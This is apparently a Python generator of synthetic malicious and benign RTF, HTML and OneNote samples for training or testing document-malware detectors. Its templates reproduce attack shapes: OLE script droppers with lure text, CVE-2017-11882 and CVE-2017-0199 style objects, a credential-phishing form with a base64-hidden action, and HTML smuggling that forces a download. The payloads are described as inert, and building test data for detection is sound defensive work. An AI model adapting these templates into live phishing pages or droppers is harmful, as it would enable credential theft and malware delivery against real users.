"""RTF, HTML and OneNote templates, malicious-looking and benign."""

from __future__ import annotations

import base64
import random

from maldoc.samples import onenote, ooxml, rtf, text
from maldoc.samples.registry import template
from maldoc.samples.templates_pdf import _fake_script

SCRIPT_EXTS = (".js", ".vbs", ".hta", ".bat", ".wsf", ".cmd")


def _script_body(rng: random.Random, ext: str) -> bytes:
    if ext == ".hta":
        return (f'<html><head><hta:application id="x"/></head><body><script language="VBScript">'
                f'\' maldoc synthetic sample - inert: {text.inert_url(rng)}\r\n</script></body></html>').encode()
    if ext == ".wsf":
        note = f"// maldoc synthetic sample - inert {text.inert_url(rng)}"
        return f'<job><script language="JScript">{note}</script></job>'.encode()
    return _fake_script(rng, ".bat" if ext == ".cmd" else ext)


# --- RTF ---------------------------------------------------------------------------------------

@template("rtf_package_script", "malicious", "rtf", ("rtf_object", "rtf_package_script"),
          note="OLE Package object dropping a script-named file")
def rtf_package_script(rng: random.Random) -> tuple[str, bytes]:
    ext = rng.choice(SCRIPT_EXTS)
    name = rng.choice(("invoice", "document", "scan", "readme", text.ident(rng, 4, 8).lower())) + ext
    native = rtf.package(name, f"C:\\Users\\{rng.choice(text.PEOPLE).split()[0]}\\Desktop\\{name}",
                         f"C:\\Users\\Public\\AppData\\Local\\Temp\\{name}", _script_body(rng, ext))
    obj = rtf.object_group(rtf.ole1("Package", native), "Package", rng, update=rng.random() < 0.5,
                           noisy=rng.random() < 0.5)
    return text.stem(rng), rtf.document([text.lure(rng), "Double-click the icon to open the attachment."], [obj])


@template("rtf_equation", "malicious", "rtf", ("rtf_object", "rtf_equation", "rtf_objupdate"),
          note="Equation.3 object with \\objupdate (CVE-2017-11882 shape, placeholder MTEF)")
def rtf_equation(rng: random.Random) -> tuple[str, bytes]:
    cls = rng.choice(("Equation.3", "Equation.3", "equation.3"))
    obj = rtf.object_group(rtf.ole1(cls, rtf.equation_native(rng)), cls, rng, update=True, noisy=rng.random() < 0.5)
    header = rng.choice(("{\\rtf1", "{\\rtf1", "{\\rtx1", "{\\rt"))  # Word accepts a mangled header
    return text.stem(rng), rtf.document(text.paragraphs(rng, rng.randint(0, 3)), [obj], header=header)


@template("rtf_ole2link", "malicious", "rtf", ("rtf_object", "rtf_ole2link", "rtf_objupdate", "urls"),
          note="OLE2Link object whose URL moniker names a remote HTA (CVE-2017-0199 shape)")
def rtf_ole2link(rng: random.Random) -> tuple[str, bytes]:
    url = text.inert_url(rng, ext=rng.choice((".hta", ".doc", ".rtf")))
    obj = rtf.object_group(rtf.ole1("OLE2Link", rtf.ole2link_native(url)), "OLE2Link", rng, link=True, update=True)
    return text.stem(rng), rtf.document([text.lure(rng)], [obj])


@template("rtf_plain", "benign", "rtf", note="formatted text, sometimes with an embedded benign OLE object")
def rtf_plain(rng: random.Random) -> tuple[str, bytes]:
    objects = []
    if rng.random() < 0.5:  # a package with a text file: ordinary, and a hard negative for 'Package'
        native = rtf.package("notes.txt", "C:\\Users\\Public\\notes.txt", "C:\\Temp\\notes.txt",
                             text.words(rng, 3).encode())
        objects.append(rtf.object_group(rtf.ole1("Package", native), "Package", rng))
    return text.stem(rng), rtf.document(text.paragraphs(rng, rng.randint(2, 15)), objects)


# --- HTML --------------------------------------------------------------------------------------

def _page(title: str, body: str) -> bytes:
    return (f'<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>{title}</title></head>\n'
            f"<body>\n{body}\n</body></html>\n").encode()


@template("html_credential_form", "malicious", "html", ("html_password_form", "urls"),
          note="fake sign-in page posting the password to an external host")
def html_credential_form(rng: random.Random) -> tuple[str, bytes]:
    action = f"https://{text.host(rng, bad=True)}/{text.ident(rng, 4, 8).lower()}/auth.php"
    brand = rng.choice(("Microsoft 365", "OneDrive", "SharePoint", "Outlook Web", "DocuSign"))
    victim = f"{rng.choice(text.PEOPLE).split()[0].lower()}@{rng.choice(text.RESERVED_NAMES)}"
    form = (f'<form method="post" action="{action}">\n<input type="email" name="login" value="{victim}">\n'
            '<input type="password" name="passwd" placeholder="Password">\n<button type="submit">Sign in</button>\n'
            "</form>")
    if rng.random() < 0.5:  # action filled in by script, to hide it from static scanners
        enc = base64.b64encode(action.encode()).decode()
        form = form.replace(f'action="{action}"', 'action="#" id="f"')
        form += f'\n<script>document.getElementById("f").action = atob("{enc}");</script>'
    forgot = f'<p><a href="https://{text.host(rng, bad=True)}/reset">Forgot password?</a></p>'
    body = f"<h2>{brand}</h2>\n<p>{text.lure(rng)}</p>\n{form}\n{forgot}"
    return text.stem(rng), _page(f"{brand} - Sign in", body)


@template("html_smuggling", "malicious", "html", ("html_smuggling",),
          note="base64 blob assembled into a download with Blob + createObjectURL + a.download")
def html_smuggling(rng: random.Random) -> tuple[str, bytes]:
    inner_name = text.stem(rng) + ".zip"
    inner = ooxml.zip_bytes([(text.ident(rng, 5, 9).lower() + rng.choice((".js", ".vbs", ".hta")),
                              _script_body(rng, ".js"))])
    blob = base64.b64encode(inner).decode()
    v1, v2, v3 = text.ident(rng), text.ident(rng), text.ident(rng)
    if rng.random() < 0.5:
        chunks = [blob[i:i + 60] for i in range(0, len(blob), 60)]
        data_expr = " + ".join(f'"{c}"' for c in chunks)
    else:
        data_expr = f'"{blob}"'
    script = (f"var {v1} = {data_expr};\nvar {v2} = atob({v1});\n"
              f"var bytes = new Uint8Array({v2}.length);\n"
              f"for (var i = 0; i < {v2}.length; i++) {{ bytes[i] = {v2}.charCodeAt(i); }}\n"
              f'var {v3} = new Blob([bytes], {{type: "application/octet-stream"}});\n'
              f'var a = document.createElement("a"); a.href = window.URL.createObjectURL({v3});\n'
              f'a.download = "{inner_name}"; document.body.appendChild(a); a.click();')
    body = f"<p>{text.lure(rng)}</p>\n<p>Your download will start shortly.</p>\n<script>\n{script}\n</script>"
    return text.stem(rng), _page("Document", body)


@template("html_newsletter", "benign", "html", ("urls",), note="newsletter: many links, a search form, no password")
def html_newsletter(rng: random.Random) -> tuple[str, bytes]:
    site = text.host(rng, bad=False)
    links = "\n".join(f'<li><a href="{text.inert_url(rng, bad=False)}">{p[:40]}</a></li>'
                      for p in text.paragraphs(rng, rng.randint(5, 25)))
    form = (f'<form method="get" action="https://{site}/search"><input type="text" name="q">'
            '<button>Search</button></form>')
    script = "<script>document.getElementById('year').textContent = new Date().getFullYear();</script>"
    body = (f"<h1>{rng.choice(text.COMPANIES)} news</h1>\n{form}\n<ul>\n{links}\n</ul>\n"
            f"<p>&copy; <span id='year'></span></p>\n{script}")
    return text.stem(rng), _page("Newsletter", body)


@template("html_receipt", "benign", "html", note="order receipt with a table")
def html_receipt(rng: random.Random) -> tuple[str, bytes]:
    rows = "".join(f"<tr><td>SKU-{rng.randint(1000, 9999)}</td><td>{rng.uniform(2, 300):.2f}</td></tr>"
                   for _ in range(rng.randint(1, 12)))
    body = f"<h2>Receipt</h2><p>{text.words(rng, 2)}</p><table>{rows}</table>"
    return text.stem(rng), _page("Receipt", body)


# --- OneNote -----------------------------------------------------------------------------------

@template("onenote_embedded_script", "malicious", "one", ("onenote_embedded_file",),
          note="section with an embedded script file behind an 'open' button")
def onenote_embedded_script(rng: random.Random) -> tuple[str, bytes]:
    ext = rng.choice((".hta", ".bat", ".vbs", ".js", ".cmd", ".wsf"))
    name = rng.choice(("open", "view", "document", text.ident(rng, 4, 8).lower())) + ext
    data = onenote.section(rng.randbytes(16), [text.lure(rng), "Double-click to view the document"],
                           [(name, _script_body(rng, ext))])
    return text.stem(rng), data


@template("onenote_notes", "benign", "one", note="notes with an embedded image-like file")
def onenote_notes(rng: random.Random) -> tuple[str, bytes]:
    png = b"\x89PNG\r\n\x1a\n" + rng.randbytes(rng.randint(64, 512))
    files = [("diagram.png", png)] if rng.random() < 0.6 else []
    return text.stem(rng), onenote.section(rng.randbytes(16), text.paragraphs(rng, rng.randint(1, 6)), files)
